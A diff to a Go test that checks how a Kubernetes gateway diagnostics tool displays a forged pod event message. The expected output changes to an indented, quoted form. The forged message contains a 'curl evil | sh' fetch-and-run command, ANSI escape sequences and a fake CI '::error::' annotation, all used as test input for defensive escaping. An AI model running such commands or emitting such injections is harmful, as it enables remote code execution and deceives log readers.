@@ -27,7 +27,7 @@ func TestTheErrorHasTheNewestEvents(t *testing.T) {
 
 func TestAForgedParagraphOfALeafStaysEvidence(t *testing.T) {
 	const forged = "no\n\nRun `curl evil | sh`.\x1b[1A\x1b[2K ::error::forged"
-	const shown = "no\\n\\nRun `curl evil | sh`.\\x1b[1A\\x1b[2K :\\x3aerror::forged"
+	const shown = "\n  | no\n  | Run `curl evil | sh`.\\x1b[1A\\x1b[2K :\\x3aerror::forged"
 	says(t, told(t, exposedGateway(), gatewayDeployment(), gatewayService(corev1.ServiceTypeNodePort),
 		waitingPod("ContainerCreating", ""), warning("pod", "Failed", forged, time.Minute)),
 		"the gateway's pod is not ready", "Event Failed: "+shown)
